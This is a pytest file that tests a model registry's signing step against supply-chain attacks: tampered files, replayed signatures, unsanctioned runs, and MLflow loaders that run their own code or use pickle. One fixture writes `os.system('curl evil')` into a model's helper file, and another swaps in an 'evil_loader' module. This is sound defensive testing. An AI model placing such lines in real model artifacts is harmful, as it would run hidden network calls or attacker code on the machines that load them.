"""What the signer refuses to sign, and what `signing.check` refuses to load: each one an attack on the registry.

The attacker is any pipeline step or anyone who can start a run: they can write to MLflow (runs, tags, artifacts,
versions), but cannot read the signing key. Every refusal leaves the version without a signature.
"""

from __future__ import annotations

import json
from pathlib import Path

import mlflow
import pytest
import yaml

from components.common import attest, signing, tracking
from components.common.candidate import logged_files_digest
from serving.rollout.edges.inspect_model import verify_version
from tests.signing.conftest import Registry

NAME = "attacked-model"


def stored(registry: Registry, version: str) -> Path:
    """The version's files in the artifact store itself (a local directory for a SQLite store)."""
    return Path(registry.client.get_model_version_download_uri(NAME, version).removeprefix("file://"))


def create_version(registry: Registry, model_uri: str, tags: dict[str, str] | None = None) -> str:
    """Register `model_uri` as a new version of NAME, unsigned (what anyone with registry rights can do)."""
    tracking.connect(registry.uri)
    return str(mlflow.register_model(model_uri, NAME, tags=tags).version)


def assert_refused_and_unsigned(registry: Registry, version: str, reason: str) -> None:
    with pytest.raises(attest.Refused, match=reason):
        attest.sign_version(registry.client, NAME, version, registry.key)
    tags = registry.client.get_model_version(NAME, version).tags
    assert signing.TAG_DIGEST not in tags
    assert signing.TAG_KEY not in tags


def signed_version(registry: Registry) -> str:
    """A version signed the honest way."""
    winner = registry.candidate()
    version = create_version(registry, winner.model_uri)
    attest.sign_version(registry.client, NAME, version, registry.key)
    return version


def download(registry: Registry, version: str, into: Path) -> Path:
    uri = registry.client.get_model_version_download_uri(NAME, version)
    return Path(mlflow.artifacts.download_artifacts(artifact_uri=uri, dst_path=str(into)))


def test_files_that_differ_from_the_trained_digest_are_not_signed(registry):
    winner = registry.candidate()
    version = create_version(registry, winner.model_uri)
    (stored(registry, version) / "helper.py").write_text("import os; os.system('curl evil')\n")
    assert_refused_and_unsigned(registry, version, r"not what run \w+ trained")
    assert not (stored(registry, version) / signing.SIGNATURE_FILE).exists()
    assert not (stored(registry, version) / signing.STATEMENT_FILE).exists()


def test_a_run_the_gate_did_not_choose_is_not_signed(registry):
    loser = registry.candidate(won=False)
    version = create_version(registry, loser.model_uri)
    assert_refused_and_unsigned(
        registry, version, r"is not the gate's winner of pipeline run \w+ \(winner: another-run\)"
    )
    assert not (stored(registry, version) / signing.SIGNATURE_FILE).exists()
    assert not (stored(registry, version) / signing.STATEMENT_FILE).exists()


def evil_loader(mlmodel: dict) -> None:
    mlmodel["flavors"]["python_function"]["loader_module"] = "evil_loader"


def own_code(mlmodel: dict) -> None:
    mlmodel["flavors"]["python_function"]["code"] = "code"


def a_pickle(mlmodel: dict) -> None:
    mlmodel["flavors"]["sklearn"]["serialization_format"] = "cloudpickle"


@pytest.mark.parametrize(
    ("rewrite", "reason"),
    [
        (evil_loader, r"loader_module 'evil_loader' is not plinth's"),
        (own_code, r"the model brings code of its own"),
        (a_pickle, r"its sklearn files are 'cloudpickle', not skops"),
    ],
)
def test_a_model_that_is_not_plinths_kind_is_not_signed(registry, rewrite, reason):
    """A training step logs a model whose MLflow loader runs its own code, and records that digest as trained."""
    winner = registry.candidate()
    files = Path(tracking.model_files_location(winner.model_uri).removeprefix("file://"))
    mlmodel = yaml.safe_load((files / "MLmodel").read_text())
    rewrite(mlmodel)
    (files / "MLmodel").write_text(yaml.safe_dump(mlmodel))
    registry.client.set_tag(winner.run_id, attest.TAG_FILES_DIGEST, logged_files_digest(winner.model_uri))
    version = create_version(registry, winner.model_uri)
    assert_refused_and_unsigned(registry, version, reason)
    assert not (files / signing.SIGNATURE_FILE).exists()
    assert not (files / signing.STATEMENT_FILE).exists()


def test_files_already_signed_for_another_version_are_not_signed_again(registry):
    winner = registry.candidate()
    first = create_version(registry, winner.model_uri)
    attest.sign_version(registry.client, NAME, first, registry.key)
    signature = (stored(registry, first) / signing.SIGNATURE_FILE).read_bytes()
    # The same logged files registered again: the registry knows that run was signed as `first`, and removing
    # the statement from the files does not change that.
    again = create_version(registry, winner.model_uri)
    assert_refused_and_unsigned(registry, again, rf"files of run \w+ are already signed for {NAME} v{first}")
    (stored(registry, first) / signing.STATEMENT_FILE).unlink()
    assert_refused_and_unsigned(registry, again, rf"files of run \w+ are already signed for {NAME} v{first}")
    assert (stored(registry, first) / signing.SIGNATURE_FILE).read_bytes() == signature, "nothing was re-signed"
    # Files of another run that carry a statement for another version (copied in) are refused by the statement.
    other = registry.candidate()
    copied = Path(tracking.model_files_location(other.model_uri).removeprefix("file://"))
    (copied / signing.STATEMENT_FILE).write_text(json.dumps({"name": NAME, "version": first}))
    third = create_version(registry, other.model_uri)
    assert_refused_and_unsigned(registry, third, rf"already signed for {NAME} v{first}, not {NAME} v{third}")
    assert not (copied / signing.SIGNATURE_FILE).exists()


def test_files_signed_for_one_version_fail_as_another(registry, tmp_path):
    """v3's signed files (statement and model.sig included) copied and registered as v7, v3's tags copied too."""
    honest = signed_version(registry)
    tags = dict(registry.client.get_model_version(NAME, honest).tags)
    files = download(registry, honest, tmp_path / "honest")
    tracking.connect(registry.uri)
    with mlflow.start_run(experiment_id=registry.experiment) as copy:
        mlflow.log_artifacts(str(files), "model")
    replayed = create_version(registry, f"runs:/{copy.info.run_id}/model", tags)
    fetched = download(registry, replayed, tmp_path / "replayed")
    verdict = signing.check(fetched, tags, registry.public, False, NAME, replayed)
    assert verdict.result == signing.FAILED
    assert f"signed for {NAME} v{honest}, not {NAME} v{replayed}" in verdict.message
    # The honest version still verifies: the check is about the binding, not the files.
    assert signing.check(files, tags, registry.public, True, NAME, honest).result == signing.VERIFIED


def test_a_tampered_version_without_its_digest_tag_fails_not_unverified(registry, tmp_path):
    version = signed_version(registry)
    model_file = stored(registry, version) / "model.skops"
    data = bytearray(model_file.read_bytes())
    data[-10] ^= 0x01
    model_file.write_bytes(bytes(data))
    registry.client.delete_model_version_tag(NAME, version, signing.TAG_DIGEST)
    tags = registry.client.get_model_version(NAME, version).tags
    assert signing.TAG_DIGEST not in tags
    verdict = signing.check(download(registry, version, tmp_path), tags, registry.public, False, NAME, version)
    assert (verdict.result, verdict.refused) == (signing.FAILED, True), verdict.message
    assert "model.skops differs from its signed digest" in verdict.message
    # The rollout's pre-traffic check reaches the same verdict (it no longer decides by the tag alone).
    rollout = verify_version(registry.client, registry.uri, NAME, version, registry.public, False)
    assert rollout.result == signing.FAILED, rollout.message


def test_the_statement_records_runs_digest_and_gate_evidence(registry, tmp_path):
    version = signed_version(registry)
    found = registry.client.get_model_version(NAME, version)
    statement = json.loads((download(registry, version, tmp_path) / signing.STATEMENT_FILE).read_text())
    run = registry.client.get_run(found.run_id)
    assert statement["name"] == NAME
    assert statement["version"] == version
    assert statement["run_id"] == found.run_id
    assert statement["pipeline_run_id"] == run.data.tags["mlflow.parentRunId"]
    assert statement["files_digest"] == run.data.tags[attest.TAG_FILES_DIGEST]
    assert statement["gate"]["metrics"] == {"roc_auc": 0.99}
    assert statement["gate"]["margin"] == 0.01
    assert statement["gate"]["reason"].startswith("no champion yet")
